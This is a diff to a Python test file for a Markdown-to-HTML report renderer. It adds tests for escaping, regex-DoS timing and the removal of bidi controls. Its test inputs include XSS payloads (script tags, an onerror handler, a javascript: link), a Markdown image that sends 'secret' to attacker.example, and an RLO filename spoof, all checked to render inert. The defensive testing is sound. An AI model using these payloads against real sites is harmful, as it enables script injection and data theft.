@@ -1,6 +1,9 @@
 """Report rendering: untrusted Markdown becomes inert HTML, links go only to fetched sources, citations open quotes."""
 from __future__ import annotations
 
+import signal
+from collections.abc import Iterator
+from contextlib import contextmanager
 from html.parser import HTMLParser
 from urllib.parse import unquote
 
@@ -67,14 +70,17 @@ def assert_inert(html: str) -> Tags:
 
 
 def test_hostile_report_and_quote_render_as_text_with_links_only_to_fetched_sources() -> None:
-    rr = run(f"# Title <script>alert(1)</script>\n\nIntro {HOSTILE} [F1].\n\n- item {HOSTILE} [F2]\n")
+    # S2 was fetched at http://127.0.0.1:9/x but its final address is javascript:, so citing it links nowhere
+    rr = run(f"# Title <script>alert(1)</script>\n\nIntro {HOSTILE} [F1] [s2](http://127.0.0.1:9/x).\n\n"
+             f"- item {HOSTILE} [F2] http://127.0.0.1:9/x\n")
     html = report_html(rr) + notes_html(rr)
     parsed = assert_inert(html)
     text = "".join(parsed.text)
     for shown in ("<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=2">',
                   "![x](http://attacker.example/?q=secret)", "[click](javascript:alert(1))",
                   '<iframe src="http://attacker.example/frame"></iframe>', "<http://attacker.example/auto>",
-                  "Qdrant <b>pricing</b>", "What is <b>enterprise</b> pricing?", "no cite <script>x</script>"):
+                  "Qdrant <b>pricing</b>", "What is <b>enterprise</b> pricing?", "no cite <script>x</script>",
+                  "[s2](http://127.0.0.1:9/x)"):
         assert shown in text
     assert parsed.hrefs(), "the fetched source should still be linked"
 
@@ -135,6 +141,47 @@ def test_markdown_subset_structure_and_escapes() -> None:
     assert "<blockquote>quoted &lt;b&gt;</blockquote>" in html
     assert "<th>a</th>" in html and "<td>2</td>" in html and "<hr>" in html
     assert "<pre><code>&lt;script&gt;raw&lt;/script&gt;</code></pre>" in html
+    assert markdown_html("## C# and F# ##\n\n``a ` b`` and `c`", Evidence()) == \
+        "<h3>C# and F#</h3>\n<p><code>a ` b</code> and <code>c</code></p>"
+    assert markdown_html("_snake_case words_ and *a **b** c*", Evidence()) == \
+        "<p><em>snake_case words</em> and <em>a <strong>b</strong> c</em></p>"
+
+
+@contextmanager
+def deadline(seconds: float) -> Iterator[None]:
+    """Fails the test when the block runs longer than `seconds` (SIGALRM interrupts a regex that is still running)."""
+    def expired(signum: int, frame: object) -> None:
+        raise AssertionError(f"took more than {seconds} s")
+
+    previous = signal.signal(signal.SIGALRM, expired)
+    signal.setitimer(signal.ITIMER_REAL, seconds)
+    try:
+        yield
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+@pytest.mark.parametrize("start,unit", [("", "**a "), ("", "__a "), ("", "*a "), ("", "_a "), ("", "[a"),
+                                        ("", "[F1,"), ("", "a **b\n"), ("x", "`"), ("# a", " ")])
+def test_adversarial_markdown_renders_in_linear_time_and_stays_escaped(start: str, unit: str) -> None:
+    # 48 KB of unclosed openers: a pattern that rescans the rest of the text per opener needs seconds to hours
+    md = start + unit * (48_000 // len(unit)) + "b <i>"
+    with deadline(3.0):  # linear rendering takes well under 0.1 s here; quadratic takes 5 s or more
+        html = markdown_html(md, Evidence())
+        assert report_title(run(md))
+    assert_inert(html)
+    assert "&lt;i&gt;" in html and "<i>" not in html
+
+
+def test_bidi_controls_are_removed_from_untrusted_text() -> None:
+    rlo = "\u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e \u061c"
+    rr = run(f"# Title {rlo}\n\nBody {rlo} `{rlo}` [F1].", quote=f"Quote {rlo}")
+    html = report_html(rr) + notes_html(rr)
+    assert "<h2>Title gnp.exe x y </h2>" in html and "“Quote gnp.exe x y ”" in html
+    assert "<code>gnp.exe x y </code>" in html
+    for c in "\u202e\u202c\u2066\u2069\u200f\u200e\u061c":
+        assert c not in html
 
 
 def test_sources_section_comes_from_the_data_not_the_models_text() -> None:
